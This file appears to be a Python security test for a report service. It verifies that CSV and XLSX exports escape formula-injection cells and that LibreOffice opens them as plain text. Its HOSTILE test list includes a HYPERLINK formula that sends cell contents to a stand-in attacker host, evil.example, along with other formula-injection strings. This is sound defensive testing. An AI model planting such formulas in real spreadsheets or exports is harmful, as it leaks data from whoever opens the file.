"""Exports carry no formulas (http-api.md 1.1, Reports): a text cell that starts with =, +, -, @, tab
or CR is escaped so no spreadsheet runs it, and XLSX text cells are strings. Checked in the files
themselves and by opening them as a spreadsheet user would: LibreOffice headless (soffice)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess

import openpyxl
import pytest

from evaluator import export
from tests.security.inputs_hall import bearer, client, full_hall, served

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


def test_text_cells_are_escaped_and_written_as_strings():
    rows = [{"key": v, "n": 5, "neg": -3, "rate": 0.5} for v in HOSTILE] + [{"key": "窗口 1", "n": 0}]
    fields = ("key", "n", "neg", "rate")
    text = export.to_csv(rows, fields).decode("utf-8-sig")
    cells = [r[0] for r in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells[:-1] == ["'" + v for v in HOSTILE] and cells[-1] == "窗口 1"
    wb = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(rows, fields, {"key": "窗口"}, "t")))
    ws = wb.active
    for row in ws.iter_rows(min_row=2):
        key, n, neg, _ = row
        assert key.data_type == "s" and not str(key.value).startswith(("=", "+", "-", "@", "\t", "\r"))
        assert n.data_type == "n" and (neg.value is None or neg.data_type == "n")
    # (XML reads a CR back as LF: the cell is still the escaped text)
    assert [c.value for c in ws["A"]][1:-1] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert ws["C2"].value == -3  # numbers stay numbers, negative ones too


def soffice_to_csv(path, outdir, infilter: str | None = None, options: str = "44,34,76,1") -> str:
    """Open `path` in LibreOffice Calc (headless) and save its first sheet as CSV: what a person sees."""
    binary = shutil.which("soffice") or shutil.which("libreoffice")
    if binary is None:
        pytest.fail("soffice is missing: `make test` installs libreoffice-calc-nogui")
    outdir.mkdir(parents=True, exist_ok=True)
    args = [binary, f"-env:UserInstallation=file://{outdir / 'lo-profile'}", "--headless"]
    if infilter:
        args.append(f"--infilter={infilter}")
    subprocess.run([*args, "--convert-to", f"csv:Text - txt - csv (StarCalc):{options}", "--outdir", str(outdir),
                    str(path)], check=True, capture_output=True, timeout=180)
    return (outdir / (path.stem + ".csv")).read_text(encoding="utf-8")


async def test_exported_comments_open_as_text_in_libreoffice(make_daemon, tmp_path, artifacts):
    d = await full_hall(make_daemon)
    admin = bearer(d, "admin")
    async with client(d) as c:
        for comment in HOSTILE:
            case = await served(c, d)
            r = await c.post("/api/v1/ratings", json={"ticket": case["issued"]["id"], "key": case["issued"]["rating_key"],
                                                      "level": 1, "reasons": [1], "comment": comment})
            assert r.status_code == 201, r.text
        files = {}
        for fmt in ("csv", "xlsx"):
            r = await c.get(f"/api/v1/reports/national?format={fmt}", headers=admin)
            assert r.status_code == 200
            files[fmt] = tmp_path / fmt / f"national.{fmt}"
            files[fmt].parent.mkdir()
            files[fmt].write_bytes(r.content)
            (artifacts / f"national-escaped.{fmt}").write_bytes(r.content)
    stored = sorted(v.strip() for v in HOSTILE)  # the rating book strips a comment's ends

    wb = openpyxl.load_workbook(files["xlsx"])
    ws = wb.active
    col = [cell.value for cell in ws[1]].index("评价内容")
    comments = [row[col] for row in ws.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in comments)
    assert sorted(cell.value for cell in comments) == sorted("'" + v for v in stored)

    # LibreOffice opens the XLSX and the CSV: every comment shows as the text it was, nothing computed
    # (Calc may hide the escaping apostrophe, as it does for text typed as '=…).
    for fmt, infilter in (("xlsx", None), ("csv", "CSV:44,34,76,1")):
        rows = list(csv.reader(io.StringIO(soffice_to_csv(files[fmt], tmp_path / f"lo-{fmt}", infilter))))
        col = rows[0].index("评价内容")
        seen = sorted(r[col].removeprefix("'") for r in rows[1:] if len(r) > col and r[col] != "评价内容")
        assert seen == stored, (fmt, seen)
